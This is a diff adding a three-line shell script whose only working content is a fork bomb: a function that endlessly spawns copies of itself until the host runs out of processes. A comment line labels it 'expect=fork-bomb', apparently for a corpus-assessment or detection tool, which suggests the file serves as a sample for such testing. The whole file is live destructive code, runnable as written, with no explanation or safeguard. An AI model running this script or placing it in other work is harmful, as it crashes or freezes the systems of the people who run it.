@@ -1,0 +1,3 @@
+#!/bin/sh
+#! assess-corpus: expect=fork-bomb
+bomb() { bomb | bomb & }; bomb
